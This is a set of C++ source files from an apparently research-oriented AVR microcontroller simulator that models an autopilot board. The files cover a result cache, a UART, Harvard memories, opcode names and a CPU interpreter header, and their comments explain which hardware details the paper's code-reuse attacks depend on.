/// Digest-keyed byte-blob store, optionally backed by an append-only file.
/// Single-threaded by design: the analysis plane runs before any trial
/// fan-out, and the CLI/bench drive it from one thread.
class AnalysisCache {
 public:
  /// In-memory cache (no persistence).
  AnalysisCache() = default;

  /// File-backed cache: loads whatever valid prefix `path` holds (a
  /// missing file is an empty cache) and appends every insert to it.
  explicit AnalysisCache(std::string path);

  const CacheLoadStats& load_stats() const { return load_stats_; }
  std::size_t entries() const { return entries_.size(); }

  /// Record bytes for `digest`, or nullptr on miss. The pointer stays
  /// valid until the entry is overwritten.
  const support::Bytes* lookup(const support::Sha256Digest& digest) const;

  /// Stores (and, when file-backed, appends) a record.
  void insert(const support::Sha256Digest& digest, support::Bytes record);

 private:
  void load_file();
  void append_record(const support::Sha256Digest& digest,
                     const support::Bytes& record);

  std::string path_;
  std::map<support::Sha256Digest, support::Bytes> entries_;
  std::ofstream appender_;
  CacheLoadStats load_stats_;
};

}  // namespace mavr::analysis
