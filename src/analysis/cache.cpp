#include "analysis/cache.hpp"

#include <cstring>
#include <iterator>
#include <span>

#include "support/crc.hpp"
#include "support/error.hpp"

namespace mavr::analysis {

namespace {

constexpr std::uint8_t kRecordVersion = 1;
// 1 version byte + 32 digest bytes precede the record body.
constexpr std::size_t kPayloadHeader = 1 + 32;
// Sanity bound: no per-function or per-image record comes anywhere near
// this; a frame claiming more is corruption, not data.
constexpr std::uint32_t kMaxRecordBytes = 16u << 20;

std::uint32_t read_u32_le(const std::uint8_t* p) {
  return static_cast<std::uint32_t>(p[0]) |
         (static_cast<std::uint32_t>(p[1]) << 8) |
         (static_cast<std::uint32_t>(p[2]) << 16) |
         (static_cast<std::uint32_t>(p[3]) << 24);
}

}  // namespace

AnalysisCache::AnalysisCache(std::string path) : path_(std::move(path)) {
  MAVR_REQUIRE(!path_.empty(), "file-backed cache needs a path");
  load_file();
  appender_.open(path_, std::ios::binary | std::ios::app);
}

void AnalysisCache::load_file() {
  std::ifstream in(path_, std::ios::binary);
  if (!in) return;  // no file yet: empty cache
  support::Bytes file((std::istreambuf_iterator<char>(in)),
                      std::istreambuf_iterator<char>());
  std::size_t pos = 0;
  while (pos + 8 <= file.size()) {
    const std::uint32_t len = read_u32_le(file.data() + pos);
    const std::uint32_t want_crc = read_u32_le(file.data() + pos + 4);
    if (len < kPayloadHeader || len > kMaxRecordBytes ||
        pos + 8 + len > file.size()) {
      // Torn tail or garbled length: framing is gone from here on.
      ++load_stats_.records_rejected;
      return;
    }
    const std::span<const std::uint8_t> payload(file.data() + pos + 8, len);
    if (support::crc32_ieee(payload) != want_crc ||
        payload[0] != kRecordVersion) {
      ++load_stats_.records_rejected;
      return;
    }
    support::Sha256Digest digest;
    std::memcpy(digest.data(), payload.data() + 1, digest.size());
    entries_[digest] = support::Bytes(payload.begin() + kPayloadHeader,
                                      payload.end());
    ++load_stats_.records_loaded;
    load_stats_.bytes_loaded += len - kPayloadHeader;
    pos += 8 + len;
  }
  if (pos != file.size()) ++load_stats_.records_rejected;  // trailing scrap
}

const support::Bytes* AnalysisCache::lookup(
    const support::Sha256Digest& digest) const {
  const auto it = entries_.find(digest);
  return it == entries_.end() ? nullptr : &it->second;
}

void AnalysisCache::insert(const support::Sha256Digest& digest,
                           support::Bytes record) {
  auto [it, fresh] = entries_.insert_or_assign(digest, std::move(record));
  if (fresh && appender_.is_open()) append_record(digest, it->second);
}

void AnalysisCache::append_record(const support::Sha256Digest& digest,
                                  const support::Bytes& record) {
  support::Bytes payload;
  payload.reserve(kPayloadHeader + record.size());
  payload.push_back(kRecordVersion);
  payload.insert(payload.end(), digest.begin(), digest.end());
  payload.insert(payload.end(), record.begin(), record.end());
  const std::uint32_t len = static_cast<std::uint32_t>(payload.size());
  const std::uint32_t crc = support::crc32_ieee(payload);
  std::uint8_t header[8] = {
      static_cast<std::uint8_t>(len), static_cast<std::uint8_t>(len >> 8),
      static_cast<std::uint8_t>(len >> 16),
      static_cast<std::uint8_t>(len >> 24),
      static_cast<std::uint8_t>(crc), static_cast<std::uint8_t>(crc >> 8),
      static_cast<std::uint8_t>(crc >> 16),
      static_cast<std::uint8_t>(crc >> 24)};
  appender_.write(reinterpret_cast<const char*>(header), sizeof(header));
  appender_.write(reinterpret_cast<const char*>(payload.data()),
                  static_cast<std::streamsize>(payload.size()));
  appender_.flush();
}

}  // namespace mavr::analysis
