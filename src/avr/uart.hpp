// Polled USART device: the telemetry port through which the ground station
// speaks MAVLink to the autopilot (paper Fig. 3) and through which the
// master processor programs the application processor (paper §VI-B4).
//
// Receive timing is paced at the configured baud rate (10 bits per byte,
// 8N1), which is what makes the 115200-baud ≈ 11.5 bytes/ms bottleneck of
// Table II observable in simulation.
#pragma once

#include <cstdint>
#include <deque>
#include <span>

#include "avr/io.hpp"
#include "support/bytes.hpp"

namespace mavr::avr {

/// Register layout and line rate for one USART instance.
struct UartConfig {
  std::uint16_t data_addr;    ///< UDRn data-space address
  std::uint16_t status_addr;  ///< UCSRnA data-space address
  std::uint32_t clock_hz;     ///< CPU clock the pacing is derived from
  std::uint32_t baud;         ///< line rate (APM telemetry: 115200)
};

/// ATmega2560 USART0 at its real data-space addresses.
UartConfig usart0_config(std::uint32_t clock_hz, std::uint32_t baud);

/// UCSRnA status bits the firmware polls.
inline constexpr std::uint8_t kUartRxComplete = 0x80;  // RXCn
inline constexpr std::uint8_t kUartTxReady = 0x20;     // UDREn

/// Value UDRn reads as when the firmware reads with nothing received: an
/// idle 8N1 line rests at mark (all ones), so the data register shows 0xFF
/// rather than a fabricated 0x00 that could masquerade as real payload.
inline constexpr std::uint8_t kUartIdleLine = 0xFF;

/// Observation hooks for line activity, cycle-stamped with the simulated
/// clock. Lets a tracer place host-visible MAVLink bytes on the same
/// timeline as the instruction stream (see trace::Session).
class UartTap {
 public:
  virtual ~UartTap() = default;
  /// Firmware wrote a byte to UDRn (transmit toward the host).
  virtual void on_tx(std::uint64_t cycle, std::uint8_t byte) {
    (void)cycle, (void)byte;
  }
  /// Firmware consumed a received byte from UDRn.
  virtual void on_rx(std::uint64_t cycle, std::uint8_t byte) {
    (void)cycle, (void)byte;
  }
  /// Firmware read UDRn with no byte ready (saw kUartIdleLine).
  virtual void on_rx_underrun(std::uint64_t cycle) { (void)cycle; }
};

class Uart {
 public:
  /// Throws support::PreconditionError when the config is unusable
  /// (zero baud or clock would make the pacing divide by zero).
  Uart(IoBus& bus, const UartConfig& config);

  // --- Host (simulation harness) side --------------------------------------
  /// Queues bytes for the firmware, paced at the line rate starting from the
  /// current simulated time.
  void host_send(std::span<const std::uint8_t> bytes);

  /// Takes everything the firmware transmitted so far.
  support::Bytes host_take_tx();

  /// Bytes queued but not yet consumed by the firmware.
  std::size_t rx_backlog() const { return rx_.size(); }

  /// Data-register reads that found no byte ready (firmware raced the line
  /// or polled without checking RXCn). Exported by the trace layer.
  std::uint64_t rx_underruns() const { return rx_underruns_; }

  /// Installs (or clears, with nullptr) the line-activity observer. Not
  /// owned; must outlive the attachment.
  void set_tap(UartTap* tap) { tap_ = tap; }
  UartTap* tap() const { return tap_; }

  /// Simulated cycles needed to transfer `count` bytes at the line rate.
  std::uint64_t cycles_for_bytes(std::uint64_t count) const {
    return count * cycles_per_byte_;
  }

 private:
  std::uint8_t read_status() const;
  std::uint8_t read_data();

  /// Current simulated time: the pacing no longer needs a per-instruction
  /// tick — the bus clock carries the same post-retire cycle count the old
  /// tick() broadcast delivered.
  std::uint64_t now() const { return bus_.now(); }

  struct Pending {
    std::uint64_t ready_at;
    std::uint8_t byte;
  };

  IoBus& bus_;
  std::uint64_t cycles_per_byte_;
  std::uint64_t rx_cursor_ = 0;  ///< pacing cursor for arriving bytes
  std::uint64_t rx_underruns_ = 0;
  std::deque<Pending> rx_;
  support::Bytes tx_;
  UartTap* tap_ = nullptr;
};

}  // namespace mavr::avr
