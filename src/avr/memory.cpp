#include "avr/memory.hpp"

#include "avr/io.hpp"

namespace mavr::avr {

void ProgramMemory::erase() {
  std::fill(words_.begin(), words_.end(), std::uint16_t{0xFFFF});
  ++generation_;
}

void ProgramMemory::program(std::span<const std::uint8_t> image) {
  MAVR_REQUIRE(image.size() <= size_bytes(), "image exceeds flash size");
  for (std::size_t i = 0; i < image.size(); ++i) {
    const std::size_t word_index = i / 2;
    std::uint16_t w = words_[word_index];
    if ((i & 1) == 0) {
      w = static_cast<std::uint16_t>((w & 0xFF00) | image[i]);
    } else {
      w = static_cast<std::uint16_t>((w & 0x00FF) | (image[i] << 8));
    }
    words_[word_index] = w;
  }
  ++generation_;
}

void ProgramMemory::program_page(std::uint32_t byte_addr,
                                 std::span<const std::uint8_t> page) {
  MAVR_REQUIRE(byte_addr % 2 == 0, "page address must be even");
  MAVR_REQUIRE(byte_addr + page.size() <= size_bytes(),
               "page exceeds flash size");
  for (std::size_t i = 0; i < page.size(); ++i) {
    const std::size_t abs = byte_addr + i;
    const std::size_t word_index = abs / 2;
    std::uint16_t w = words_[word_index];
    if ((abs & 1) == 0) {
      w = static_cast<std::uint16_t>((w & 0xFF00) | page[i]);
    } else {
      w = static_cast<std::uint16_t>((w & 0x00FF) | (page[i] << 8));
    }
    words_[word_index] = w;
  }
  ++generation_;
}

support::Bytes ProgramMemory::dump() const {
  support::Bytes out;
  out.reserve(size_bytes());
  for (std::uint16_t w : words_) {
    out.push_back(static_cast<std::uint8_t>(w & 0xFF));
    out.push_back(static_cast<std::uint8_t>(w >> 8));
  }
  return out;
}

support::Bytes DataMemory::snapshot(std::uint32_t addr,
                                    std::uint32_t count) const {
  support::Bytes out;
  out.reserve(count);
  for (std::uint32_t i = 0; i < count; ++i) out.push_back(raw(addr + i));
  return out;
}

void DataMemory::clear() { std::fill(bytes_.begin(), bytes_.end(), 0); }

}  // namespace mavr::avr
