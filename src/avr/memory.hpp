// Harvard-architecture memories of the simulated AVR (paper §II-B, Fig. 1):
// a word-addressed program flash that only the bootloader can write, a
// single linear data space holding the register file, I/O and SRAM, and a
// small EEPROM. Data memory is never executable; program memory is not
// readable as data except through LPM — the properties that force attackers
// into code reuse (paper §III).
#pragma once

#include <bit>
#include <cstdint>
#include <span>
#include <vector>

#include "avr/io.hpp"
#include "avr/mcu.hpp"
#include "support/bytes.hpp"
#include "support/error.hpp"

namespace mavr::avr {

/// Word-addressed program flash.
class ProgramMemory {
 public:
  explicit ProgramMemory(const McuSpec& spec)
      : words_(spec.flash_words(), 0xFFFF),
        word_mask_(std::has_single_bit(spec.flash_words())
                       ? spec.flash_words() - 1
                       : 0) {}

  std::uint32_t size_words() const {
    return static_cast<std::uint32_t>(words_.size());
  }
  std::uint32_t size_bytes() const { return size_words() * 2; }

  /// Fetches the word at `word_addr` (wraps like real hardware so a runaway
  /// PC keeps "executing garbage" instead of crashing the simulator). Every
  /// real part has a power-of-two flash, so the wrap is a mask — the modulo
  /// is only a fallback for synthetic non-power-of-two specs.
  std::uint16_t word(std::uint32_t word_addr) const {
    return words_[wrap_word(word_addr)];
  }

  /// Byte view used by LPM/ELPM: AVR words are little-endian in byte space.
  std::uint8_t byte(std::uint32_t byte_addr) const {
    const std::uint16_t w = word(byte_addr / 2);
    return static_cast<std::uint8_t>((byte_addr & 1) ? (w >> 8) : (w & 0xFF));
  }

  /// Erases the whole flash to 0xFFFF (bootloader chip-erase).
  void erase();

  /// Programs raw bytes starting at byte address 0 (bootloader path).
  /// Throws PreconditionError when the image exceeds the part's flash.
  void program(std::span<const std::uint8_t> image);

  /// Programs one page at `byte_addr` (must be page aligned by the caller).
  void program_page(std::uint32_t byte_addr,
                    std::span<const std::uint8_t> page);

  /// Monotonic counter incremented by every erase/program; used by the CPU
  /// decode cache to know when cached decodes are stale.
  std::uint64_t generation() const { return generation_; }

  /// Copies the flash contents out as bytes (test/verification support;
  /// the readout-protection policy is enforced one level up, in sim::Board).
  support::Bytes dump() const;

 private:
  std::uint32_t wrap_word(std::uint32_t word_addr) const {
    return word_mask_ != 0
               ? (word_addr & word_mask_)
               : (word_addr % static_cast<std::uint32_t>(words_.size()));
  }

  std::vector<std::uint16_t> words_;
  std::uint32_t word_mask_;
  std::uint64_t generation_ = 0;
};

/// Single linear data space: registers + I/O + SRAM (paper Fig. 1).
/// All of it is readable and writable by program stores — including the
/// register file and the stack-pointer bytes, which is exactly what the
/// paper's stk_move and write_mem gadgets exploit.
///
/// load/store are the interpreter's hottest memory path: after the wrap
/// check, addresses at or above the I/O region (every SRAM access) go
/// straight to the backing array, and addresses inside it consult the
/// bus's dispatch-flag byte map — one indexed test — before falling back
/// to RAM or making one indirect handler call.
class DataMemory {
 public:
  DataMemory(const McuSpec& spec, IoBus& io)
      : bytes_(spec.data_space_bytes(), 0),
        size_(spec.data_space_bytes()),
        io_(io) {}

  std::uint32_t size() const { return size_; }

  /// Load with I/O-device dispatch (used by the executing program).
  std::uint8_t load(std::uint32_t addr) {
    addr = wrap(addr);
    if (addr >= kExtIoEnd) [[likely]] return bytes_[addr];
    if (io_.dispatch_map()[addr] & IoBus::kHandlesRead) return io_.read(addr);
    return bytes_[addr];
  }

  /// Store with I/O-device dispatch (used by the executing program).
  void store(std::uint32_t addr, std::uint8_t value) {
    addr = wrap(addr);
    if (addr >= kExtIoEnd) [[likely]] {
      bytes_[addr] = value;
      return;
    }
    if (io_.dispatch_map()[addr] & IoBus::kHandlesWrite) {
      io_.write(addr, value);
      return;
    }
    bytes_[addr] = value;
  }

  /// Raw access without device dispatch (CPU core registers, test peeks,
  /// stack snapshots for the Fig. 6 dumps).
  std::uint8_t raw(std::uint32_t addr) const { return bytes_[wrap(addr)]; }
  void set_raw(std::uint32_t addr, std::uint8_t value) {
    bytes_[wrap(addr)] = value;
  }

  /// Direct pointer to the backing storage (stable for the lifetime of the
  /// DataMemory — the vector never reallocates after construction). The
  /// interpreter keeps this for its register-file/SREG/SP accessors, whose
  /// addresses are compile-time constants well inside the data space.
  std::uint8_t* raw_data() { return bytes_.data(); }
  const std::uint8_t* raw_data() const { return bytes_.data(); }

  /// Snapshot `count` bytes starting at `addr` (wraps at data-space end).
  support::Bytes snapshot(std::uint32_t addr, std::uint32_t count) const;

  /// Clears everything to zero (power-on / reset).
  void clear();

 private:
  /// Data-space wrap. The common case (every architecturally generated
  /// address) is in range, so this costs one predictable compare; the
  /// modulo — data spaces are not powers of two, and masking would change
  /// where wild addresses land — only runs on out-of-range accesses.
  std::uint32_t wrap(std::uint32_t addr) const {
    if (addr < size_) [[likely]] return addr;
    return addr % size_;
  }

  std::vector<std::uint8_t> bytes_;
  std::uint32_t size_;
  IoBus& io_;
};

/// Persistent EEPROM configuration memory (paper Fig. 1; not mapped into
/// data or program space).
class Eeprom {
 public:
  explicit Eeprom(const McuSpec& spec) : bytes_(spec.eeprom_bytes, 0xFF) {}

  std::uint8_t read(std::uint32_t addr) const {
    MAVR_REQUIRE(addr < bytes_.size(), "EEPROM address out of range");
    return bytes_[addr];
  }
  void write(std::uint32_t addr, std::uint8_t value) {
    MAVR_REQUIRE(addr < bytes_.size(), "EEPROM address out of range");
    bytes_[addr] = value;
  }
  std::uint32_t size() const {
    return static_cast<std::uint32_t>(bytes_.size());
  }

 private:
  std::vector<std::uint8_t> bytes_;
};

}  // namespace mavr::avr
