// Harvard-architecture memories of the simulated AVR (paper §II-B, Fig. 1):
// a word-addressed program flash that only the bootloader can write, a
// single linear data space holding the register file, I/O and SRAM, and a
// small EEPROM. Data memory is never executable; program memory is not
// readable as data except through LPM — the properties that force attackers
// into code reuse (paper §III).
#pragma once

#include <cstdint>
#include <span>
#include <vector>

#include "avr/mcu.hpp"
#include "support/bytes.hpp"
#include "support/error.hpp"

namespace mavr::avr {

/// Word-addressed program flash.
class ProgramMemory {
 public:
  explicit ProgramMemory(const McuSpec& spec)
      : words_(spec.flash_words(), 0xFFFF) {}

  std::uint32_t size_words() const {
    return static_cast<std::uint32_t>(words_.size());
  }
  std::uint32_t size_bytes() const { return size_words() * 2; }

  /// Fetches the word at `word_addr` (wraps like real hardware so a runaway
  /// PC keeps "executing garbage" instead of crashing the simulator).
  std::uint16_t word(std::uint32_t word_addr) const {
    return words_[word_addr % words_.size()];
  }

  /// Byte view used by LPM/ELPM: AVR words are little-endian in byte space.
  std::uint8_t byte(std::uint32_t byte_addr) const {
    const std::uint16_t w = word(byte_addr / 2);
    return static_cast<std::uint8_t>((byte_addr & 1) ? (w >> 8) : (w & 0xFF));
  }

  /// Erases the whole flash to 0xFFFF (bootloader chip-erase).
  void erase();

  /// Programs raw bytes starting at byte address 0 (bootloader path).
  /// Throws PreconditionError when the image exceeds the part's flash.
  void program(std::span<const std::uint8_t> image);

  /// Programs one page at `byte_addr` (must be page aligned by the caller).
  void program_page(std::uint32_t byte_addr,
                    std::span<const std::uint8_t> page);

  /// Monotonic counter incremented by every erase/program; used by the CPU
  /// decode cache to know when cached decodes are stale.
  std::uint64_t generation() const { return generation_; }

  /// Copies the flash contents out as bytes (test/verification support;
  /// the readout-protection policy is enforced one level up, in sim::Board).
  support::Bytes dump() const;

 private:
  std::vector<std::uint16_t> words_;
  std::uint64_t generation_ = 0;
};

class IoBus;

/// Single linear data space: registers + I/O + SRAM (paper Fig. 1).
/// All of it is readable and writable by program stores — including the
/// register file and the stack-pointer bytes, which is exactly what the
/// paper's stk_move and write_mem gadgets exploit.
class DataMemory {
 public:
  DataMemory(const McuSpec& spec, IoBus& io);

  std::uint32_t size() const {
    return static_cast<std::uint32_t>(bytes_.size());
  }

  /// Load with I/O-device dispatch (used by the executing program).
  std::uint8_t load(std::uint32_t addr);

  /// Store with I/O-device dispatch (used by the executing program).
  void store(std::uint32_t addr, std::uint8_t value);

  /// Raw access without device dispatch (CPU core registers, test peeks,
  /// stack snapshots for the Fig. 6 dumps).
  std::uint8_t raw(std::uint32_t addr) const {
    return bytes_[addr % bytes_.size()];
  }
  void set_raw(std::uint32_t addr, std::uint8_t value) {
    bytes_[addr % bytes_.size()] = value;
  }

  /// Snapshot `count` bytes starting at `addr` (wraps at data-space end).
  support::Bytes snapshot(std::uint32_t addr, std::uint32_t count) const;

  /// Clears everything to zero (power-on / reset).
  void clear();

 private:
  std::vector<std::uint8_t> bytes_;
  IoBus& io_;
};

/// Persistent EEPROM configuration memory (paper Fig. 1; not mapped into
/// data or program space).
class Eeprom {
 public:
  explicit Eeprom(const McuSpec& spec) : bytes_(spec.eeprom_bytes, 0xFF) {}

  std::uint8_t read(std::uint32_t addr) const {
    MAVR_REQUIRE(addr < bytes_.size(), "EEPROM address out of range");
    return bytes_[addr];
  }
  void write(std::uint32_t addr, std::uint8_t value) {
    MAVR_REQUIRE(addr < bytes_.size(), "EEPROM address out of range");
    bytes_[addr] = value;
  }
  std::uint32_t size() const {
    return static_cast<std::uint32_t>(bytes_.size());
  }

 private:
  std::vector<std::uint8_t> bytes_;
};

}  // namespace mavr::avr
