#include "avr/instr.hpp"

#include "avr/decode.hpp"

namespace mavr::avr {

std::string_view op_name(Op op) {
  switch (op) {
    case Op::Invalid: return "<invalid>";
    case Op::Add: return "add";
    case Op::Adc: return "adc";
    case Op::Sub: return "sub";
    case Op::Subi: return "subi";
    case Op::Sbc: return "sbc";
    case Op::Sbci: return "sbci";
    case Op::And: return "and";
    case Op::Andi: return "andi";
    case Op::Or: return "or";
    case Op::Ori: return "ori";
    case Op::Eor: return "eor";
    case Op::Com: return "com";
    case Op::Neg: return "neg";
    case Op::Inc: return "inc";
    case Op::Dec: return "dec";
    case Op::Mul: return "mul";
    case Op::Cp: return "cp";
    case Op::Cpc: return "cpc";
    case Op::Cpi: return "cpi";
    case Op::Cpse: return "cpse";
    case Op::Swap: return "swap";
    case Op::Asr: return "asr";
    case Op::Lsr: return "lsr";
    case Op::Ror: return "ror";
    case Op::Adiw: return "adiw";
    case Op::Sbiw: return "sbiw";
    case Op::Mov: return "mov";
    case Op::Movw: return "movw";
    case Op::Ldi: return "ldi";
    case Op::Rjmp: return "rjmp";
    case Op::Rcall: return "rcall";
    case Op::Jmp: return "jmp";
    case Op::Call: return "call";
    case Op::Ijmp: return "ijmp";
    case Op::Icall: return "icall";
    case Op::Eijmp: return "eijmp";
    case Op::Eicall: return "eicall";
    case Op::Ret: return "ret";
    case Op::Reti: return "reti";
    case Op::Brbs: return "brbs";
    case Op::Brbc: return "brbc";
    case Op::Sbrc: return "sbrc";
    case Op::Sbrs: return "sbrs";
    case Op::Sbic: return "sbic";
    case Op::Sbis: return "sbis";
    case Op::Lds: return "lds";
    case Op::Sts: return "sts";
    case Op::LdX: return "ld_x";
    case Op::LdXInc: return "ld_x+";
    case Op::LdXDec: return "ld_-x";
    case Op::LdYInc: return "ld_y+";
    case Op::LdYDec: return "ld_-y";
    case Op::LddY: return "ldd_y";
    case Op::LdZInc: return "ld_z+";
    case Op::LdZDec: return "ld_-z";
    case Op::LddZ: return "ldd_z";
    case Op::StX: return "st_x";
    case Op::StXInc: return "st_x+";
    case Op::StXDec: return "st_-x";
    case Op::StYInc: return "st_y+";
    case Op::StYDec: return "st_-y";
    case Op::StdY: return "std_y";
    case Op::StZInc: return "st_z+";
    case Op::StZDec: return "st_-z";
    case Op::StdZ: return "std_z";
    case Op::LpmR0: return "lpm_r0";
    case Op::Lpm: return "lpm";
    case Op::LpmInc: return "lpm_z+";
    case Op::ElpmR0: return "elpm_r0";
    case Op::Elpm: return "elpm";
    case Op::ElpmInc: return "elpm_z+";
    case Op::In: return "in";
    case Op::Out: return "out";
    case Op::Push: return "push";
    case Op::Pop: return "pop";
    case Op::Sbi: return "sbi";
    case Op::Cbi: return "cbi";
    case Op::Bset: return "bset";
    case Op::Bclr: return "bclr";
    case Op::Bst: return "bst";
    case Op::Bld: return "bld";
    case Op::Nop: return "nop";
    case Op::Sleep: return "sleep";
    case Op::Break: return "break";
    case Op::Wdr: return "wdr";
    case Op::Spm: return "spm";
  }
  return "<?>";
}

}  // namespace mavr::avr
