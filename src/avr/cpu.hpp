// The AVR CPU interpreter: fetch/decode/execute with cycle accounting.
//
// Faithfulness notes that the paper's attacks depend on:
//  * SP, SREG, EIND and the register file live in the data space, so OUT
//    0x3D/0x3E rewrites the stack pointer (stk_move gadget, Fig. 4) and STD
//    Y+q can write anywhere including registers (write_mem gadget, Fig. 5);
//  * CALL/RCALL/ICALL push a 3-byte return address on the ATmega2560
//    (17-bit word PC), stored big-endian toward ascending addresses — the
//    exact layout the ROP payload builder emits;
//  * an invalid opcode faults the core, modelling the "board executes
//    garbage and becomes inoperable" failure the master processor detects.
#pragma once

#include <cstdint>
#include <string>
#include <vector>

#include "avr/decode.hpp"
#include "avr/instr.hpp"
#include "avr/io.hpp"
#include "avr/mcu.hpp"
#include "avr/memory.hpp"
#include "avr/tier.hpp"

namespace mavr::avr {

enum class CpuState {
  Running,   ///< executing normally
  Faulted,   ///< hit an invalid opcode (garbage execution crashed)
  Stopped,   ///< executed BREAK (used by firmware test stubs to halt)
};

/// Details of the fault that stopped the core.
struct FaultInfo {
  std::uint32_t pc_words = 0;   ///< word address of the faulting fetch
  std::uint16_t opcode = 0;     ///< first opcode word
  std::string reason;
  std::uint64_t cycle = 0;      ///< cycle count when the fault hit
  /// Forensics for smashed-stack diagnosis: the *raw* (unmasked) target of
  /// the most recent RET/RETI before the fault. The architectural PC always
  /// wraps through pc_mask_, so without this a wild return from a corrupted
  /// stack is indistinguishable from a legitimate in-range return.
  std::uint32_t last_ret_raw_words = 0;
  bool last_ret_wrapped = false;  ///< raw target had bits above pc_mask_
};

class Cpu;

/// Observation hooks invoked from Cpu::step() while a tracer is installed.
///
/// The disabled path costs exactly one branch on a null pointer per step;
/// when enabled, step() switches to an instrumented instantiation of the
/// interpreter loop, so the hooks below fire with zero cost added to the
/// untraced build.
///
/// Hook timing: on_load/on_store/on_call/on_ret fire *during* the
/// instruction (the Cpu still shows the pre-advance PC); on_sp_change fires
/// after the executing instruction's data effects but before the PC
/// advances; on_retire fires after the instruction fully completes;
/// on_irq fires after the vector dispatch pushed the return address.
class Tracer {
 public:
  virtual ~Tracer() = default;

  /// One instruction retired. `pc_words` addresses the retired instruction;
  /// the Cpu reflects post-execution state.
  virtual void on_retire(const Cpu& cpu, std::uint32_t pc_words,
                         const Instr& instr, std::uint32_t cycles) {
    (void)cpu, (void)pc_words, (void)instr, (void)cycles;
  }
  /// CALL/RCALL/ICALL/EICALL edge (after the return address was pushed).
  virtual void on_call(const Cpu& cpu, std::uint32_t from_words,
                       std::uint32_t to_words, std::uint32_t ret_words) {
    (void)cpu, (void)from_words, (void)to_words, (void)ret_words;
  }
  /// RET/RETI edge. `raw_words` is the popped target before PC masking —
  /// on a smashed stack it can exceed the flash (to_words is the wrapped
  /// address actually executed).
  virtual void on_ret(const Cpu& cpu, std::uint32_t from_words,
                      std::uint32_t to_words, std::uint32_t raw_words,
                      bool reti) {
    (void)cpu, (void)from_words, (void)to_words, (void)raw_words, (void)reti;
  }
  /// Interrupt accepted: vector `slot` dispatched, return address pushed.
  virtual void on_irq(const Cpu& cpu, std::uint8_t slot,
                      std::uint32_t from_words) {
    (void)cpu, (void)slot, (void)from_words;
  }
  /// SP changed during the last instruction (push/pop/call/ret or a direct
  /// store to SPL/SPH — the paper's stk_move pivot shows up here).
  virtual void on_sp_change(const Cpu& cpu, std::uint16_t old_sp,
                            std::uint16_t new_sp) {
    (void)cpu, (void)old_sp, (void)new_sp;
  }
  /// Data-space load performed by the program (LD/LDS/LDD/IN/SBIC/SBIS).
  virtual void on_load(const Cpu& cpu, std::uint32_t addr,
                       std::uint8_t value) {
    (void)cpu, (void)addr, (void)value;
  }
  /// Data-space store performed by the program (ST/STS/STD/OUT/SBI/CBI).
  virtual void on_store(const Cpu& cpu, std::uint32_t addr,
                        std::uint8_t value) {
    (void)cpu, (void)addr, (void)value;
  }
  /// The core faulted (invalid opcode). `info` includes the raw target of
  /// the most recent return for smashed-stack forensics.
  virtual void on_fault(const Cpu& cpu, const FaultInfo& info) {
    (void)cpu, (void)info;
  }
};

/// One simulated AVR core with its Harvard memories and I/O bus.
class Cpu {
 public:
  explicit Cpu(const McuSpec& spec);

  const McuSpec& spec() const { return spec_; }

  /// Power-on/reset: PC=0, SP=RAMEND, SREG=0, data memory cleared.
  /// Flash contents are preserved (reset is not reprogramming).
  void reset();

  CpuState state() const { return state_; }
  const FaultInfo& fault() const { return fault_; }

  /// Executes one instruction (no-op unless Running).
  void step();

  /// Runs until the core leaves Running or `cycle_budget` cycles elapse.
  /// Returns the number of cycles consumed.
  std::uint64_t run(std::uint64_t cycle_budget);

  // --- Architectural state -------------------------------------------------
  // Register file, SP and SREG live at fixed data-space addresses far below
  // the data-space end, so these accessors go straight at the backing store
  // (no wrap check, no device dispatch — matching the old raw() semantics).
  std::uint8_t reg(unsigned index) const { return ram_[index]; }
  void set_reg(unsigned index, std::uint8_t value) { ram_[index] = value; }

  /// 16-bit register pair (X: lo=26, Y: lo=28, Z: lo=30).
  std::uint16_t reg_pair(unsigned lo) const {
    return static_cast<std::uint16_t>(reg(lo) | (reg(lo + 1) << 8));
  }
  void set_reg_pair(unsigned lo, std::uint16_t value) {
    set_reg(lo, static_cast<std::uint8_t>(value & 0xFF));
    set_reg(lo + 1, static_cast<std::uint8_t>(value >> 8));
  }

  std::uint16_t sp() const {
    return static_cast<std::uint16_t>(ram_[kAddrSpl] | (ram_[kAddrSph] << 8));
  }
  void set_sp(std::uint16_t value) {
    ram_[kAddrSpl] = static_cast<std::uint8_t>(value & 0xFF);
    ram_[kAddrSph] = static_cast<std::uint8_t>(value >> 8);
  }

  std::uint8_t sreg() const { return ram_[kAddrSreg]; }
  void set_sreg(std::uint8_t value) { ram_[kAddrSreg] = value; }
  bool flag(SregBit bit) const { return (sreg() >> bit) & 1; }

  /// Program counter in words.
  std::uint32_t pc() const { return pc_; }
  void set_pc(std::uint32_t word_addr) { pc_ = word_addr & pc_mask_; }

  std::uint64_t cycles() const { return cycles_; }
  std::uint64_t instructions_retired() const { return retired_; }

  ProgramMemory& flash() { return flash_; }
  const ProgramMemory& flash() const { return flash_; }
  DataMemory& data() { return data_; }
  const DataMemory& data() const { return data_; }
  Eeprom& eeprom() { return eeprom_; }
  IoBus& io() { return io_; }

  /// Interrupt-line query: must return true when an interrupt is pending
  /// and clear it (hardware ack). A plain function pointer + context pair
  /// rather than std::function — the poll sits on the interrupt-latency
  /// path and must not cost a type-erased dispatch per pending check.
  using IrqTakeFn = bool (*)(void* ctx);

  /// Registers an interrupt source on `vector_slot` (slot k dispatches
  /// through the 2-word vector at word address 2k). `take(ctx)` must
  /// return true when an interrupt is pending and clear it (hardware
  /// ack). Delivery follows AVR semantics: only with SREG.I set, between
  /// instructions; the return address is pushed and I is cleared.
  ///
  /// Lines are polled while the bus's interrupt hint is up (see
  /// IoBus::raise_irq). Devices raising pending state mid-run must raise
  /// the hint; state flipped from outside the simulation loop is covered
  /// by the unconditional re-raise at step()/run() entry.
  void set_irq_line(std::uint8_t vector_slot, IrqTakeFn take, void* ctx);

  /// Interrupts delivered since power-on.
  std::uint64_t interrupts_taken() const { return interrupts_taken_; }

  /// Installs (or clears, with nullptr) the observation hooks. The Cpu does
  /// not own the tracer; it must outlive the attachment. With no tracer the
  /// interpreter runs a hook-free instantiation — the only residual cost is
  /// one null check per run()/step() entry.
  void set_tracer(Tracer* tracer) { tracer_ = tracer; }
  Tracer* tracer() const { return tracer_; }

  /// Raw (unmasked) target of the most recent RET/RETI, for smashed-stack
  /// forensics; see FaultInfo::last_ret_raw_words.
  std::uint32_t last_ret_raw_words() const { return last_ret_raw_words_; }
  bool last_ret_wrapped() const { return last_ret_wrapped_; }

  /// Enables/disables the superblock execution tier for untraced run()s
  /// (default on). Bit-identical to the interpreter either way — the
  /// toggle exists for benchmarking and for pinning that equivalence.
